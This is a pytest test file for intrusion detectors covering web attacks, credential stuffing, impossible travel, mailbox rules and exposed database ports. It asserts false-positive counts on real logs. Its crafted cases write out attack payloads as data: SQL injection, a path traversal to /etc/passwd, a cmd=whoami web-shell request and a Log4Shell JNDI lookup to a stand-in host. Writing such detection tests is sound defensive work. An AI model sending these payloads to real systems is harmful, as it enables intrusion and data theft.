"""Internet-facing detectors on real access / sign-in / audit logs, crafted positives and negatives.

False positives on the real benign logs are asserted as counts (see ``test_fp_counts``): the
10,000-request elastic/examples Apache log of a public blog and the 86 real Entra sign-ins
of the msticpy demo tenant.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl

from mimamori.detect import DETECTORS
from mimamori.detect.base import AlertDraft, DetectContext
from mimamori.detect.internet import CloudSigninDetector, CredentialStuffingDetector, WebAttackDetector
from mimamori.events.schema import conform
from mimamori.sources import get_parser
from tests.sources.util import parse_file

WEB = "web-access-logs"
C2 = f"{WEB}/evtx-attack-samples/Command and Control"
CLOUD = "cloud-and-web-logs"
T0 = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)


def ctx() -> DetectContext:
    return DetectContext(tenant="t1", batch_id="b")


def parsed(corpus: Path, source: str, path: str) -> pl.DataFrame:
    return parse_file(get_parser(source), corpus / path).events


def run_all(events: pl.DataFrame) -> list[AlertDraft]:
    out: list[AlertDraft] = []
    for det in (WebAttackDetector(), CredentialStuffingDetector(), CloudSigninDetector()):
        out += det.detect(events, ctx())
    return out


def frame(rows: list[dict[str, Any]]) -> pl.DataFrame:
    return conform(pl.DataFrame(rows, infer_schema_length=None))


def web(
    ts: datetime, src: str, url: str, status: int = 200, method: str = "GET", ua: str = "Mozilla/5.0"
) -> dict:
    path, _, query = url.partition("?")
    return {
        "@timestamp": ts,
        "event.category": "web",
        "event.dataset": "apache.access",
        "source.ip": src,
        "url.original": url,
        "url.path": path,
        "url.query": query or None,
        "http.request.method": method,
        "http.response.status_code": status,
        "user_agent.original": ua,
        "destination.domain": "shop.example.jp",
    }


def login(ts: datetime, src: str, user: str, ok: bool, **extra: Any) -> dict:
    return {
        "@timestamp": ts,
        "event.category": "authentication",
        "event.dataset": "app.login",
        "event.outcome": "success" if ok else "failure",
        "source.ip": src,
        "user.name": user,
        **extra,
    }


def test_registered() -> None:
    assert {"web_attack", "credential_stuffing", "cloud_signin"} <= set(DETECTORS)


# ------------------------------------------------------------------ real logs, FP counts


def test_fp_counts(corpus: Path) -> None:
    """False positives on real benign logs: none on the blog's 10,000 requests; on the demo
    tenant's sign-ins one impossible-travel alert (ctfuser3: Millstone -> Park Ridge, US,
    1,119 km in 73 min, the candidate the data set's README names; counted here as an FP
    because the two places are ~2 h apart by plane, so it may be a VPN or geo-IP error)."""
    blog = run_all(parsed(corpus, "apache", f"{WEB}/elastic-examples/apache_logs"))
    assert blog == []
    signins = run_all(parsed(corpus, "entra_signin", f"{CLOUD}/msticpy-testdata/derived/aad_logons.jsonl"))
    assert [(a.kind, a.keys) for a in signins] == [("impossible_travel", ["user:ctfuser3@seccxp.ninja"])]


def _ual_from_csv(rows: list[dict[str, str]], time_field: str) -> bytes:
    """Log Analytics CSV exports of OfficeActivity rows as unified-audit JSON lines (the CSV
    shape itself is not a supported source); only the columns the parser reads are kept."""
    out = []
    for r in rows:
        params = json.loads(r["Parameters"]) if r.get("Parameters") else []
        when = r[time_field]
        if "/" in when:  # "4/26/2021, 7:17:10.000 AM"
            when = datetime.strptime(when, "%m/%d/%Y, %I:%M:%S.%f %p").isoformat()
        out.append({"CreationTime": when, "UserId": r.get("UserId"), "ClientIP": r.get("ClientIP"),
                    "Operation": r["Operation"], "Parameters": params})  # fmt: skip
    return "\n".join(json.dumps(o) for o in out).encode()


def test_fp_count_exchange_admin_cmdlets(corpus: Path) -> None:
    """1,334 real Exchange admin cmdlets of a demo tenant (135 Set-Mailbox, 211 Set-User):
    no mailbox-rule alert (none of them sets forwarding or a hiding rule)."""
    path = corpus / f"{CLOUD}/msticpy-testdata/docs/notebooks/data/demo_exchange_data.csv"
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    events = parse_file(get_parser("m365_audit"), _ual_from_csv(rows, "TimeGenerated"), "x.jsonl").events
    assert events.height == 1334
    assert (events["event.action"] == "Set-Mailbox").sum() == 135
    assert run_all(events) == []


def test_real_malicious_inbox_rules(corpus: Path) -> None:
    """The Sentinel training lab's two New-InboxRule records: move "do not open" mail to Junk,
    delete mail mentioning covid-19 — both hide mail from the user."""
    lab = "sentinel-training-lab/Solutions/Training/Azure-Sentinel-Training-Lab/Artifacts/Telemetry"
    path = corpus / f"{CLOUD}/{lab}/office_activity_inbox_rule.csv"
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    events = parse_file(get_parser("m365_audit"), _ual_from_csv(rows, "Start_Time [UTC]"), "x.jsonl").events
    alerts = CloudSigninDetector().detect(events, ctx())
    assert [(a.kind, a.severity) for a in alerts] == [("mailbox_rule", "high")] * 2
    assert {a.evidence["source_ip"] for a in alerts} == {"2a01:110:8068:7:9bf8:aa87:e00a:5f1f"}
    assert all("hides" in a.title for a in alerts)


def test_fp_count_other_signin_samples(corpus: Path) -> None:
    """Elastic's Entra sign-in and Google Workspace login pipeline samples: no alert on the
    sign-ins; on the Google sample only Google's own account warnings (its test events of
    each warning type) become alerts."""
    pkgs = f"{CLOUD}/elastic-integrations-ELv2/packages"
    entra = parsed(
        corpus,
        "entra_signin",
        f"{pkgs}/azure/data_stream/signinlogs/_dev/test/pipeline/test-signinlogs-raw.log",
    )
    gws = parsed(
        corpus, "gws_login", f"{pkgs}/google_workspace/data_stream/login/_dev/test/pipeline/test-login.log"
    )
    assert run_all(entra) == []
    warnings = run_all(gws)
    assert sorted(a.evidence["warning"] for a in warnings) == sorted(
        [
            "account_disabled_password_leak",
            "suspicious_login",
            "suspicious_login_less_secure_app",
            "suspicious_programmatic_login",
            "account_disabled_spamming_through_relay",
            "account_disabled_spamming",
            "account_disabled_hijacked",
            "gov_attack_warning",
        ]
    )
    assert all(a.kind == "account_takeover" for a in warnings)


def test_real_web_shell_and_tunnel(corpus: Path) -> None:
    alerts = run_all(parsed(corpus, "iis", f"{C2}/Tunna_rdp_tunnel_IIS.log"))
    assert {(a.kind, a.severity, a.indicator) for a in alerts} == {("web_shell", "high", "10.0.2.17")}
    assert sum(a.event_count for a in alerts) == 4298  # every Tunna request, in two hourly alerts
    alerts = run_all(parsed(corpus, "apache", f"{CLOUD}/plaso-testdata/test_data/apache_access.log"))
    shells = [a for a in alerts if a.kind == "web_shell"]
    assert {a.indicator for a in shells} == {"10.1.1.2", "192.168.0.2"}  # evil.php, ?cmd=uname
    assert all(a.severity == "high" for a in shells)


def test_real_attack_traffic(corpus: Path) -> None:
    alerts = run_all(parsed(corpus, "apache", f"{C2}/web_attack_and_isp_webshell_localhost_access_log.txt"))
    kinds = Counter(a.evidence["category"] for a in alerts)
    assert kinds["path_traversal"] == 2 and kinds["web_shell"] == 2 and kinds["exploit_attempt"] == 2
    alerts = run_all(parsed(corpus, "iis", f"{CLOUD}/plaso-testdata/test_data/iis/iis7_sqli.log"))
    assert [(a.evidence["category"], a.indicator) for a in alerts] == [("sql_injection", "222.222.222.222")]


def test_real_distributed_login_attack(corpus: Path) -> None:
    """hackers-access.httpd: 499 POSTs to a Plone /login_form from 346 addresses over six days."""
    alerts = run_all(parsed(corpus, "apache", f"{WEB}/gtkcyber/data/hackers-access.httpd"))
    assert [a.kind for a in alerts] == ["credential_stuffing"]
    ev = alerts[0].evidence
    assert ev["pattern"] == "apache.access /login_form"
    assert ev["distinct_sources"] >= 20 and ev["failure_ratio"] == 1.0


def test_real_mailbox_rules_match_panther_labels(corpus: Path) -> None:
    lines = (corpus / f"{CLOUD}/panther-analysis/derived/tests_Microsoft365_Audit_Exchange.jsonl").read_text()
    rows = [json.loads(ln) for ln in lines.splitlines()]
    events = parse_file(
        get_parser("m365_audit"), "\n".join(json.dumps(r["log"]) for r in rows).encode(), "x.jsonl"
    ).events
    agree = 0
    for i, row in enumerate(rows, start=1):
        got = CloudSigninDetector().detect(events.filter(pl.col("log.file.line") == i), ctx())
        if row["rule_id"] == "Microsoft365.Exchange.External.Forwarding":
            agree += bool(got) == row["expected_result"]
    assert agree == 10  # all ten labelled forwarding cases


# ------------------------------------------------------------------- crafted: web attacks


def test_member_enumeration_across_batches_alerts_once() -> None:
    det, c = WebAttackDetector(), ctx()
    rows = [web(T0 + timedelta(seconds=i), "198.51.100.9", f"/member/{1000 + i}/profile") for i in range(150)]
    first = det.detect(frame(rows[:80]), c)
    assert first == []
    second = det.detect(frame(rows[80:]), c)
    assert [a.kind for a in second] == ["member_data_enumeration"]
    assert second[0].evidence["distinct_ids"] == 150
    assert second[0].evidence["url_template"] == "/member/{n}/profile"
    more = [
        web(T0 + timedelta(seconds=200 + i), "198.51.100.9", f"/member/{5000 + i}/profile") for i in range(20)
    ]
    assert det.detect(frame(more), c) == []  # same client and template: not again


def test_member_enumeration_query_param_and_negatives() -> None:
    rows = [
        web(T0 + timedelta(seconds=i), "198.51.100.7", f"/mypage.php?member_id={i}&x=1") for i in range(120)
    ]
    alerts = WebAttackDetector().detect(frame(rows), ctx())
    assert [a.evidence["url_template"] for a in alerts] == ["/mypage.php?member_id={n}"]
    # many clients each viewing a few products; one client, 60 ids; 404s; images
    rows = [web(T0, f"203.0.113.{i % 200}", f"/item/{i}") for i in range(400)]
    rows += [web(T0 + timedelta(seconds=i), "198.51.100.8", f"/member/{i}") for i in range(60)]
    rows += [web(T0 + timedelta(seconds=i), "198.51.100.6", f"/member/{i}", status=404) for i in range(300)]
    rows += [web(T0 + timedelta(seconds=i), "198.51.100.5", f"/img/{i}.png") for i in range(300)]
    assert WebAttackDetector().detect(frame(rows), ctx()) == []


def test_web_signatures_positive_and_negative() -> None:
    attacks = {
        "sql_injection": "/item.php?id=1%27%20UNION%20SELECT%20card_no,2%20FROM%20members--",
        "path_traversal": "/download?file=..%2f..%2f..%2fetc%2fpasswd",
        "web_shell": "/uploads/avatar.php?cmd=whoami",
        "exploit_attempt": "/search?q=${jndi:ldap://x.example/a}",
    }
    rows = [web(T0, f"198.51.100.{i}", url) for i, url in enumerate(attacks.values())]
    rows.append(web(T0, "198.51.100.99", "/", ua="sqlmap/1.7.2#stable (https://sqlmap.org)", status=404))
    alerts = WebAttackDetector().detect(frame(rows), ctx())
    got = {a.evidence["category"]: a for a in alerts}
    assert set(got) == {*attacks, "scanner"}
    assert got["sql_injection"].severity == "high"  # answered 200
    assert got["scanner"].kind == "web_scan" and got["scanner"].severity == "low"
    benign = [
        "/search?q=O%27Reilly+books",
        "/blog/2015/select-the-best-union-pay-card",
        "/products?category=1&sort=price",
        "/docs/../index.html",
        "/wp-content/themes/shop/style.css",
        "/contact?name=Tanaka&msg=Please+select+one+from+the+list",
    ]
    rows = [web(T0, "203.0.113.5", url) for url in benign]
    assert WebAttackDetector().detect(frame(rows), ctx()) == []


# -------------------------------------------------------------- crafted: credential stuffing


def test_one_source_stuffing_then_takeover_across_batches() -> None:
    det, c = CredentialStuffingDetector(), ctx()
    attempts = [
        login(T0 + timedelta(seconds=10 * i), "198.51.100.20", f"user{i}@example.jp", False)
        for i in range(15)
    ]
    assert det.detect(frame(attempts), c) == []  # 15 failures so far: below the threshold
    more = [login(T0 + timedelta(seconds=200 + 10 * i), "198.51.100.20", f"user{15 + i}@example.jp", False)
            for i in range(15)]  # fmt: skip
    alerts = det.detect(frame(more), c)
    assert [a.kind for a in alerts] == ["credential_stuffing"]
    assert alerts[0].evidence["distinct_accounts"] == 30
    hit = det.detect(frame([login(T0 + timedelta(minutes=20), "198.51.100.20", "user7@example.jp", True)]), c)
    assert [(a.kind, a.severity, a.keys[0]) for a in hit] == [
        ("account_takeover", "high", "user:user7@example.jp")
    ]
    again = det.detect(
        frame([login(T0 + timedelta(minutes=21), "198.51.100.20", "user7@example.jp", True)]), c
    )
    assert again == []
    # other users from other places are not takeovers
    assert (
        det.detect(frame([login(T0 + timedelta(minutes=22), "203.0.113.1", "user8@example.jp", True)]), c)
        == []
    )


def test_distributed_low_and_slow() -> None:
    rows = [
        login(T0 + timedelta(minutes=20 * i), f"203.0.{i // 250}.{i % 250}", f"member{i}@example.jp", False)
        for i in range(60)
    ]  # 60 sources, one attempt each, over 20 hours
    alerts = CredentialStuffingDetector().detect(frame(rows), ctx())
    assert [a.kind for a in alerts] == ["credential_stuffing"]
    assert alerts[0].evidence["distinct_sources"] == 60


def test_stuffing_negatives() -> None:
    # an office behind one NAT address: 40 staff, mostly successful, a few typos
    rows = [
        login(T0 + timedelta(minutes=i), "192.0.2.10", f"staff{i}@example.jp", i % 10 != 0) for i in range(40)
    ]
    # one user mistyping ten times
    rows += [login(T0 + timedelta(seconds=i), "198.51.100.30", "hanako@example.jp", False) for i in range(10)]
    # a shop's login page used normally by many members (mostly successful)
    rows += [
        login(T0 + timedelta(minutes=i), f"203.0.113.{i}", f"m{i}@example.jp", i % 5 != 0) for i in range(100)
    ]
    assert CredentialStuffingDetector().detect(frame(rows), ctx()) == []


def test_state_is_bounded() -> None:
    det, c = CredentialStuffingDetector(max_rows=500), ctx()
    rows = [login(T0 + timedelta(seconds=i), f"203.0.113.{i % 250}", f"u{i}", True) for i in range(2000)]
    det.detect(frame(rows), c)
    det.detect(frame([login(T0 + timedelta(hours=30), "203.0.113.1", "late", True)]), c)
    assert c.state["attempts"].height <= 500


# ---------------------------------------------------------------- crafted: cloud sign-ins


def signin(
    ts: datetime, user: str, ip: str, lat: float, lon: float, app: str = "Browser", ok: bool = True
) -> dict:
    return {
        **login(ts, ip, user, ok),
        "event.dataset": "azure.signinlogs",
        "network.application": app,
        "source.geo.location.lat": lat,
        "source.geo.location.lon": lon,
        "source.geo.city_name": "x",
    }


def test_impossible_travel_across_batches() -> None:
    det, c = CloudSigninDetector(), ctx()
    assert det.detect(frame([signin(T0, "sato@example.jp", "203.0.113.1", 35.68, 139.76)]), c) == []  # Tokyo
    alerts = det.detect(
        frame([signin(T0 + timedelta(hours=1), "sato@example.jp", "198.51.100.1", 40.71, -74.0)]), c
    )  # New York an hour later
    assert [a.kind for a in alerts] == ["impossible_travel"]
    assert alerts[0].evidence["distance_km"] > 10_000
    # Tokyo -> Osaka in 3 hours, and a failed sign-in far away: nothing
    rows = [
        signin(T0 + timedelta(hours=5), "ito@example.jp", "203.0.113.2", 35.68, 139.76),
        signin(T0 + timedelta(hours=8), "ito@example.jp", "203.0.113.3", 34.69, 135.50),
        signin(T0 + timedelta(hours=8, minutes=5), "ito@example.jp", "198.51.100.3", 51.5, -0.1, ok=False),
    ]
    assert CloudSigninDetector().detect(frame(rows), ctx()) == []


def test_legacy_protocol_signin() -> None:
    rows = [
        signin(T0, "kato@example.jp", "198.51.100.4", 35.0, 139.0, app="IMAP4"),
        signin(T0, "kato@example.jp", "198.51.100.4", 35.0, 139.0, app="IMAP4"),
        signin(T0, "mori@example.jp", "198.51.100.5", 35.0, 139.0, app="IMAP4", ok=False),
        signin(T0, "mori@example.jp", "198.51.100.5", 35.0, 139.0, app="Mobile Apps and Desktop clients"),
    ]
    alerts = CloudSigninDetector().detect(frame(rows), ctx())
    assert [(a.kind, a.keys) for a in alerts] == [("legacy_auth_signin", ["user:kato@example.jp"])]
    assert alerts[0].event_count == 2


def test_inbox_rule_that_hides_mail() -> None:
    base = {"@timestamp": T0, "event.category": "email", "event.outcome": "success", "user.name": "a@x.co.jp"}
    rows = [
        {**base, "event.action": "New-InboxRule", "event.reason": "Name=.; SubjectContainsWords=請求書; "
         "MoveToFolder=RSS Feeds; MarkAsRead=True"},
        {**base, "event.action": "New-InboxRule", "event.reason": "Name=news; MoveToFolder=Newsletters"},
        {**base, "event.action": "email_forwarding_out_of_domain", "email.to.address": "x@gmail.com"},
    ]  # fmt: skip
    alerts = CloudSigninDetector().detect(frame(rows), ctx())
    assert [a.kind for a in alerts] == ["mailbox_rule", "mailbox_rule"]
    assert "hides" in alerts[0].title and "forwards" in alerts[1].title


def _fail2ban(corpus: Path, name: str) -> tuple[pl.DataFrame, set[str], set[str]]:
    """A fail2ban fixture: the access-log lines parsed; hosts labelled match / no match."""
    text = (corpus / f"{WEB}/fail2ban/{name}").read_text("utf-8")
    labels = [json.loads(m) for m in re.findall(r"#\s*failJSON:\s*(\{.*\})", text)]
    body = "\n".join(ln for ln in text.splitlines() if ln.strip() and not ln.startswith("#")) + "\n"
    events = parse_file(get_parser("apache"), body.encode(), name).events
    pos = {lb.get("host") for lb in labels if lb.get("match")}
    neg = {lb.get("host") for lb in labels if lb.get("match") is False} - pos
    return events, pos, neg


def test_fail2ban_labelled_web_fixtures(corpus: Path) -> None:
    """Where fail2ban's labelled access-log fixtures are web attacks, they are found; no
    host labelled "no match" is flagged. (Bad-bot user agents, garbage request lines and
    HTTP basic-auth 401s are fail2ban jails, not attacks these detectors look for.)"""
    found = {}
    for name in ("nginx-botsearch", "php-url-fopen", "apache-badbots", "nginx-bad-request", "traefik-auth"):
        events, pos, neg = _fail2ban(corpus, name)
        flagged = {a.indicator for a in run_all(events)}
        assert not flagged & neg, name
        found[name] = (len(flagged & pos), len(pos))
    assert found["nginx-botsearch"] == (1, 4)  # 12.34.56.78's phpMyAdmin setup.php probes
    assert found["php-url-fopen"] == (1, 1)  # remote file inclusion ?n=http://...?


def test_panther_labelled_legacy_auth(corpus: Path) -> None:
    """Panther's labelled Entra sign-in test events: the legacy-auth sign-in is found, the failed
    one is not; its "known exception" (a user allow-listed in that rule's config) is flagged
    here, having no allow-list, and the ROPC sign-in without MFA (client "Other clients") too."""
    lines = (corpus / f"{CLOUD}/panther-analysis/derived/tests_Azure_Audit.jsonl").read_text().splitlines()
    rows = [r for r in map(json.loads, lines) if "SignInLogs" in (r["log"].get("category") or "")]
    data = "\n".join(json.dumps(r["log"]) for r in rows).encode()
    events = parse_file(get_parser("entra_signin"), data, "x.jsonl").events
    assert events.height == len(rows)
    got = {}
    for i, row in enumerate(rows, start=1):
        alerts = CloudSigninDetector().detect(events.filter(pl.col("log.file.line") == i), ctx())
        got[(row["rule_id"], row["test_name"])] = [a.kind for a in alerts]
    legacy = {k[1]: v for k, v in got.items() if k[0] == "Azure.Audit.LegacyAuth"}
    assert legacy["Sign-In with legacy auth"] == ["legacy_auth_signin"]
    assert legacy["Failed Sign-In"] == []
    assert got[("Azure.Audit.ROPCLoginNoMFA", "ROPC Login Without MFA")] == ["legacy_auth_signin"]
    assert got[("Azure.Audit.ROPCLoginNoMFA", "Failed ROPC Login")] == []
    flagged = sum(bool(v) for v in got.values())
    assert flagged == 3  # of the 27 sign-in test events


# ------------------------------------------------------------------ exposed services


def conn(ts: datetime, src: str, dst: str, port: int, ok: bool = True) -> dict:
    return {
        "@timestamp": ts,
        "event.category": "network",
        "event.type": "connection",
        "event.dataset": "zeek.conn",
        "event.outcome": "success" if ok else "failure",
        "source.ip": src,
        "destination.ip": dst,
        "destination.port": port,
        "network.transport": "tcp",
    }


def test_exposed_database_port() -> None:
    from mimamori.detect.internet import ExposedServiceDetector

    det, c = ExposedServiceDetector(), ctx()
    rows = [conn(T0 + timedelta(minutes=i), f"198.19.5.{i}", "192.168.82.10", 3306) for i in range(2)]
    assert det.detect(frame(rows), c) == []  # two outside clients: not yet
    alerts = det.detect(frame([conn(T0 + timedelta(hours=3), "198.19.5.9", "192.168.82.10", 3306)]), c)
    assert [(a.kind, a.host, a.evidence["service"]) for a in alerts] == [
        ("exposed_service", "192.168.82.10", "MySQL")
    ]
    assert det.detect(frame([conn(T0 + timedelta(hours=4), "198.19.5.10", "192.168.82.10", 3306)]), c) == []
    # the public web port, refused attempts, office clients: nothing
    rows = [conn(T0, f"198.19.6.{i}", "192.168.82.10", 443) for i in range(20)]
    rows += [conn(T0, f"198.19.7.{i}", "192.168.82.11", 3389, ok=False) for i in range(20)]
    rows += [conn(T0, f"192.168.82.{i}", "192.168.82.12", 445) for i in range(20, 40)]
    assert ExposedServiceDetector().detect(frame(rows), ctx()) == []


def test_fp_count_exposed_service_on_real_zeek(corpus: Path) -> None:
    """114,109 real Zeek conn records (RITA test data, WRCCDC 2018): no exposed-service alert."""
    from mimamori.detect.internet import ExposedServiceDetector

    n = 0
    for root in ("zeek-rita-testdata", "zeek-wrccdc-2018"):
        for f in sorted((corpus / root).rglob("conn*")):
            events = parse_file(get_parser("zeek"), f).events
            n += events.height
            assert ExposedServiceDetector().detect(events, ctx()) == [], f
    assert n == 114_109
